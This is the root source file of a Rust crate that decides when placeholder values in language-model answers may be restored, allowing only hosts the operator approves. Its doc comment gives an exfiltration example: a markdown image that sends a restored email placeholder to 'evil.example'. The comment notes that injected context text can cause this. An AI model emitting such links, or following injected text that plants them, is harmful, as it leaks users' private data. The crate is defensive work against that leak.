//! Decides where a restored value may go.
//!
//! Answers of language models hold placeholders and tokens, whose values the application gets back. A model, or a text in
//! its context, can write them where a host reads them: `![x](https://evil.example/?q=[[EMAIL_1]])`. The rule:
//!
//! - A value is restored in text. Inside a construct that names a host it is restored only if that host is one of
//!   [`Hosts`], which the operator or the application names. A mention in a message or a document is no permission.
//! - Arguments of a tool get a value unless they name in clear a host or an address that is not allowed ([`Arguments`]).
//!
//! [`TextReader`] reads one text of an answer, [`Transcripts`] what its readers make of all of them. The crate has no
//! dependencies: the gateway, the middleware, the npm package and the pages use it as it is.

mod arguments;
mod destination;
mod encoding;
pub mod entities;
mod hosts;
mod letters;
mod transcript;

pub use arguments::Arguments;
pub use destination::{DestinationReader, End, Verdict};
pub use encoding::Encoding;
pub use hosts::{Hosts, pattern};
pub use transcript::{Lane, TextReader, Transcripts};
